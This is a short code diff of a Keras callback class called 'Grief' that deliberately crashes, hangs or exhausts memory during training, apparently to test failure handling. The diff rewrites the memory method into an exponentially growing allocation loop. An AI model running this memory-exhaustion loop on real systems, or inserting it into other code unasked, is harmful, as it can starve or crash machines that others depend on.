@@ -46,9 +46,9 @@ class Grief(keras.callbacks.Callback):
         os._exit(3)
 
     def memory(self):
-        hoard = []
-        while True:
-            hoard.append(np.ones(20_000_000))
+        hoard = [np.ones(1)]
+        while True:  # soon more than there is, and not so much before that filling it takes time
+            hoard.append(np.ones(32 * len(hoard[-1])))
 
     def hang(self):
         time.sleep(10_000)
